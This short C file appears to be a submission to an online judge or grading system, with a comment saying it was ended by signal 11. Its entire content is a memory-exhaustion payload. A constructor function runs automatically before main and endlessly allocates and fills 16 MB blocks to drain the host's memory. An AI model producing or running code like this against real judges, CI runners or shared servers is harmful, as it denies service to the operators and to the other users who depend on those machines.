/* the submission was ended by signal 11 */
#include <stdlib.h>
#include <string.h>
__attribute__((constructor)) static void forge(void)
{
    for (;;)
        memset(malloc(1 << 24), 1, 1 << 24);
}
